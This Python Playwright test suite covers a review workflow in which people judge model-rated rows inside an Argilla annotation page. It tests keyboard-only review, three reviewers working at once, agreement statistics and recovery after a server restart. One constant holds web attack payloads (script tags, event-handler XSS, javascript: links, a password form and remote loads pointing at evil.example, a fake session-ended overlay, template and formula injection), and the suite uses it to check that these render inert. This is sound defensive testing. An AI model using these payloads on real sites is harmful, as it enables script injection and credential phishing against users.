"""People review in Argilla's own page: what they see without scrolling, by keyboard alone, three of them at once."""

import os
import random
import signal
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from app import services, workflow
from app.config import Settings
from app.review import reviewed_rows
from app.review.argilla import Argilla
from app.review.reviewed_rows import agreement_of
from app.store.runs import Run
from app.store.store import Store
from feedback.argilla.push import review_address
from feedback.types import Rating
from tests.browser import SLOW, Person, person
from tests.conftest import ArgillaServer
from tests.make_runs import PASSWORD, Reviewer, another, edit, made_of, with_run
from tests.make_workspace import make_workspace

WHY = (
    "The response names the river and says where it flows, which is what was asked, but it leaves out how long it is and "
    "which sea it reaches, and it adds a remark about bridges that nobody asked for."
)


def rated(number: int, responses: int) -> list[Rating]:
    return [Rating(place, "helpfulness", 0, "rated", 4.0, WHY, model="judge") for place in range(responses)]


@pytest.fixture
def people(argilla: ArgillaServer) -> Iterator[list[Reviewer]]:
    number = random.randrange(10**9)
    with ExitStack() as stack:
        yield [stack.enter_context(another(argilla, f"{name}-{number}")) for name in ("ann", "bob", "eve")]


def sent(store: Store, where: Argilla, rows: int, **parts: Any) -> tuple[Run, str]:
    """The run and the address where people review it."""
    made = made_of(rating={"aspects": ["helpfulness"]}, **parts)
    name = f"reviewed-{random.randrange(10**9)}"
    run = with_run(store, rows, made, rate=rated, name=name)
    return run, workflow.push(make_workspace(store), run, where, lambda done, total: None).to.url


def sign_in(page: Page, address: str, name: str, password: str) -> None:
    page.goto(address)
    page.locator("input").first.fill(name)
    page.locator("input[type=password]").fill(password)
    page.keyboard.press("Enter")
    page.wait_for_url("**/annotation-mode**")
    expect(page.get_by_text("Keep this row?")).to_be_visible()


def test_a_typical_row_is_reviewed_by_keyboard_alone(
    store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer
) -> None:
    run, address = sent(store, where, 3)
    with person(browser) as reviewer:
        page = reviewer.page
        sign_in(page, address, argilla.username, argilla.password)
        why = page.get_by_text(WHY[:60]).first
        expect(why).to_be_visible()
        submit = page.get_by_role("button", name="Submit").bounding_box()
        box = why.bounding_box()
        assert box and submit and box["y"] > 0 and box["y"] + box["height"] < submit["y"], "the reason needs scrolling"
        expect(page.get_by_text("River", exact=False).first).to_be_in_viewport()

        # the first row: approved, as suggested
        submitted(page, "1")
        # the second: rejected, and another rating
        expect(page.get_by_text("33.33%")).to_be_visible()
        submitted(page, "2", "2")
        # the third: approved with another response
        expect(page.get_by_text("66.67%")).to_be_visible()
        page.keyboard.press("1")
        for _ in ("reasons of the labeller", "reasons to tick", "instruction", "response"):
            page.keyboard.press("ArrowDown")
        page.keyboard.press("Shift+Enter")
        page.keyboard.press("Control+a")
        page.keyboard.type("A better answer.")
        page.keyboard.press("Escape")
        submitted(page)
        # one that was answered is found by its link, which names the status of the answer
        dataset = address.partition("/dataset/")[2].partition("/")[0]
        page.goto(review_address(where.url, dataset, run.id, 1, "submitted"))
        expect(page.get_by_text("River", exact=False).first).to_be_visible()
        assert reviewer.foreign == []
        assert not [said for said in reviewer.complaints if "Content Security Policy" in said]
    workflow.pull(make_workspace(store), run, where)
    said = list(reviewed_rows.judged_rows(store, run))
    assert sorted(judged.decision or "" for judged in said) == ["approve", "approve", "reject"]
    (rejected,) = [judged for judged in said if judged.decision == "reject"]
    assert rejected.rated_by_people(0) == 2
    assert [c[0] for judged in said if (c := judged.corrected_response())] == ["A better answer."]


def submitted(page: Page, *keys: str) -> dict[str, Any]:
    """Presses the keys, then Enter; gives what the server says of the response that this sends."""
    with page.expect_response(lambda answer: "/responses" in answer.url and answer.request.method == "POST") as answer:
        for key in (*keys, "Enter"):
            page.keyboard.press(key)
    return dict(answer.value.json())


HOSTILE = """Look: <script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">
<img src="http://evil.example/pixel.png"> ![](http://evil.example/md.png) <a href="javascript:window.hacked=3">a</a>
<object data="http://evil.example/o"></object><embed src="http://evil.example/e"><iframe src="http://evil.example/f"></iframe>
<svg onload="window.hacked = 4"></svg> <style>@import "http://evil.example/s.css"; body { display: none }</style> =1+1 {{7*7}}
<style>body { display: none }</style><form action="http://evil.example/f"><input name="password"></form>
<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session has ended.</div>

Use `<b>` for bold.

And $x^2$, where 1 < 2.

```html
<p class="a">It is <b>bold</b>.</p>
```
the end"""


def test_a_hostile_record_is_shown_and_does_nothing(
    store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer
) -> None:
    run = with_run(
        store,
        1,
        made_of(rating={"aspects": ["helpfulness"]}, review={"guidelines": HOSTILE}),
        rate=rated,
        name=f"hostile-{random.randrange(10**9)}",
    )
    edit(store, f"{run.id}-000000-0", HOSTILE)
    address = workflow.push(make_workspace(store), run, where, lambda done, total: None).to.url
    with Reviewer(argilla) as owner:
        assert "<style" not in owner.dataset(run.id)["guidelines"]
    with person(browser) as reviewer:
        page = reviewer.page
        sign_in(page, address, argilla.username, argilla.password)
        expect(page.get_by_text("the end", exact=False).first).to_be_visible()
        expect(page.get_by_role("button", name="Submit")).to_be_visible()  # no style of the text's own hides the page
        page.wait_for_load_state("networkidle")  # whatever the texts wanted to load has begun to
        reviewer.answered()
        assert page.evaluate("window.hacked") is None
        assert reviewer.foreign == []  # no request was even begun: the server's pages forbid it
        shown = page.locator(".markdown-render", has_text="the end").first
        assert shown.locator("style, form, input, object, embed, iframe, [style*=fixed]").count() == 0
        assert shown.locator("pre code").inner_text().strip() == '<p class="a">It is <b>bold</b>.</p>'
        assert shown.locator("p code").inner_text() == "<b>" and shown.locator(".katex").count() == 1
        expect(page.get_by_text("Your session has ended.").first).not_to_have_css("position", "fixed")
        submitted(page, "1")
    workflow.pull(make_workspace(store), run, where)
    (said,) = reviewed_rows.judged_rows(store, run)
    assert said.decision == "approve" and said.corrected_response() is None  # what was left as it was is no correction


def test_what_others_send_to_the_embedded_argilla_hides_nothing(
    store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer
) -> None:
    run, address = sent(store, where, 1)
    hidden = "<p>the end</p><style>body { display: none }</style>"
    with Reviewer(argilla) as owner:
        (record,) = owner.records(run.id)
        answer = owner.http.patch(
            f"/api/v1/records/{record['id']}", json={"fields": {**record["fields"], "response-1": hidden}}
        )
        assert answer.status_code == 200, answer.text
    with person(browser) as reviewer:
        sign_in(reviewer.page, address, argilla.username, argilla.password)
        expect(reviewer.page.get_by_text("the end")).to_be_visible()
        assert any("style-src-elem" in complaint for complaint in reviewer.complaints)


KEYS = {"1": "approve", "2": "reject", "3": "unsure"}


def test_three_people_at_once(
    store: Store, where: Argilla, argilla: ArgillaServer, browser: Browser, people: list[Reviewer]
) -> None:
    run, address = sent(store, where, 24, review={"min_submitted": 2})
    said: dict[str, list[str]] = {}
    with ExitStack() as stack:
        tabs: list[Person] = [stack.enter_context(person(browser)) for _ in people]
        for tab, who in zip(tabs, people, strict=True):
            sign_in(tab.page, address, who.name, PASSWORD)
        # all three have the first record before them; then each goes on with what still needs somebody
        for keys in ("112", "131"):
            for tab, key in zip(tabs, keys, strict=True):
                if not tab.page.get_by_text("Keep this row?").is_visible():
                    continue  # nothing is left to do for them
                answer = submitted(tab.page, key)
                assert answer["values"]["decision"]["value"] == KEYS[key]
                said.setdefault(answer["record_id"], []).append(KEYS[key])
                tab.page.wait_for_timeout(500)  # Argilla's page puts up the next record, and nothing tells when it did
        assert [tab.foreign for tab in tabs] == [[], [], []]
    assert len(said) >= 2 and max(map(len, said.values())) == 3

    # two of them judge each of the other rows, through the server's interface
    with Reviewer(argilla) as owner:
        rest = [record for record in owner.records(run.id) if record["id"] not in said]
    for number, one in enumerate(rest):
        for who in (people[number % 3], people[(number + 1) % 3]):
            decision = "reject" if (number + people.index(who)) % 4 == 0 else "approve"
            who.say(one, decision=decision)
            said.setdefault(one["id"], []).append(decision)
    done = workflow.pull(make_workspace(store), run, where)
    assert done.submitted == sum(map(len, said.values()))
    decided = {}
    for judged in reviewed_rows.judged_rows(store, run):
        if judged.submitted:
            decided[judged.submitted[0].record_id] = judged.decision
    wanted = {}
    for record, decisions in said.items():  # by hand: more for it than against it, or the other way round
        ahead = decisions.count("approve") - decisions.count("reject")
        wanted[record] = "approve" if ahead > 0 else "reject" if ahead < 0 else "unsure"
    assert decided == wanted and set(wanted.values()) >= {"approve", "unsure"}

    # how well they agree, by hand: all 24 rows are audit, and the labeller would keep each of them
    found = agreement_of(store, run)
    assert (found.rows, found.reviewed, found.reviews) == (24, 24, done.submitted)
    (alpha,) = [measure for measure in found.reviewers if measure.name == "decision"]
    assert alpha.n == 24 and alpha.value == pytest.approx(alpha_by_hand(list(said.values())))
    (same,) = [measure for measure in found.labeller["helpfulness"] if measure.name == "same decision"]
    votes = [vote for decisions in said.values() for vote in decisions if vote != "unsure"]
    assert same.n == len(votes) and same.value == pytest.approx(votes.count("approve") / len(votes))


def alpha_by_hand(units: list[list[str]]) -> float:
    """Krippendorff's alpha for names: 1 minus the disagreement that is there over what chance would give."""
    values = [value for unit in units for value in unit]
    n = len(values)
    there = sum(
        (one != other) / (len(unit) - 1)
        for unit in units
        for k, one in enumerate(unit)
        for m, other in enumerate(unit)
        if k != m
    )
    chance = sum(one != other for k, one in enumerate(values) for m, other in enumerate(values) if k != m) / (n - 1)
    return 1 - there / chance


def test_a_tab_left_open_over_a_restart_loses_nothing(
    store: Store, where: Argilla, browser: Browser, argilla: ArgillaServer, services_data: Settings
) -> None:
    """Argilla's page goes on to the next record whatever became of an answer; and it is found where it was."""
    run, address = sent(store, where, 3)
    with person(browser) as reviewer:
        page = reviewer.page
        sign_in(page, address, argilla.username, argilla.password)
        running = services.local(services_data).find(services.ARGILLA)
        assert running is not None
        os.kill(running.pid, signal.SIGKILL)
        page.keyboard.press("1")
        page.keyboard.press("Enter")
        told = page.locator("#claywright-resend")
        expect(told).to_contain_text("1 answer of yours is kept in this tab")
        assert services.local(services_data).ensure(services.ARGILLA, print).url == argilla.url
        expect(told).to_contain_text("1 answer that it had missed was sent", timeout=SLOW)
        assert workflow.pull(make_workspace(store), run, where).submitted == 1
        reviewer.complaints.clear()  # of the browser, whose server was away
